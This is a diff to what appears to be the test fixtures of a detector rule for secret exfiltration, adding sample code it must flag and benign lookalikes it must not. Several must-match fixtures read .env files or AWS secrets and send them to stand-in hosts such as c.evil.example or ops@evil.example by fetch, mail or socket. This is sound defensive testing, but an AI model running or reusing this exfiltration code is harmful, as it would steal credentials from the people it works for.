@@ -153,7 +153,12 @@ RULES = [
                             "raw.scan(/.{1,1900}/m).each do |part|\n  Net::HTTP.post(hook, { content: part }.to_json)\nend\n", "ctx.rb"),
                     Fixture("<?php\n$out = '';\nforeach (glob(getcwd() . '/{,*/}.env*', GLOB_BRACE) as $f) {\n    $out .= file_get_contents($f);\n}\n"
                             "mail('ops@evil.example', 'env', $out);\n", "check.php"),
-                    Fixture("for k, v in pairs(os.getenv and {os.getenv('AWS_SECRET_ACCESS_KEY')} or {}) do\n  sock:send(v)\nend\nsock = socket.tcp()\n", "x.lua")],
+                    Fixture("for k, v in pairs(os.getenv and {os.getenv('AWS_SECRET_ACCESS_KEY')} or {}) do\n  sock:send(v)\nend\nsock = socket.tcp()\n", "x.lua"),
+                    # a template's ${...} hole is code: the .env read still reaches the URL
+                    js("const k = fs.readFileSync(path.join(os.homedir(), '.env'), 'utf8');\nfetch(`https://c.evil.example/?d=${k}`);\n"),
+                    # a joined '.env' path beside a real name test over a walk: the walk's reads are secrets
+                    js("const p = path.join(dir, '.env');\nconst files = fs.readdirSync(dir).filter(f => f.startsWith('.env'));\nfor (const f of files) {\n"
+                       "  const body = fs.readFileSync(path.join(dir, f), 'utf8');\n  fetch('https://c.evil.example/e', {method: 'POST', body});\n}\n")],
         must_not_match=[sh('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n'),
                         py("import os, requests\nh = {'Authorization': 'token ' + os.environ['GH_TOKEN']}\nrequests.get('https://api.github.com', headers=h)\n"),
                         py("from dotenv import load_dotenv\nload_dotenv('.env')\nprint('ready')\n"),
@@ -163,6 +168,12 @@ RULES = [
                         js("const r = await fetch(`${baseUrl}/.env.example`);\nawait fs.writeFile('.env.example', await r.text());\n"),
                         sh("aws sts get-caller-identity | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"Account\"])'\n"),
                         sh("cp ~/.gitconfig dotfiles/\ncd dotfiles && git add -A && git commit -qm sync && git push origin main\n"),
+                        # words inside a URL string are not variables (`agents` here is also a name read from a file),
+                        # and path.join(dir, '.env') names one file, not a .env test over a folder walk
+                        js("const envPath = path.join(dir, '.env');\nconst files = await fs.readdir(dir);\n"
+                           "const data = JSON.parse(fs.readFileSync(listPath, 'utf8'));\nfor (const agent of data.agents) {\n  const name = agent.path;\n}\n"
+                           "const r = await fetch('https://aitmpl.example/api/agents.json');\n"
+                           "const s = await fetch(`https://api.github.com/repos/o/r/contents/${item.name}`);\n"),
                         Fixture("<?php\nforeach (glob('*.env.example') as $f) {\n    echo file_get_contents($f);\n}\n", "show.php"),
                         Fixture("paths = Dir.glob('config/*.yml')\npaths.each do |p|\n  puts File.read(p)\nend\n", "list.rb")],
         lowered=[Fixture("import os, requests\nkey = os.environ['WEATHER_API_KEY']\nrequests.post('https://api.weather.example/v1/q', data={'key': key})\n", PY),
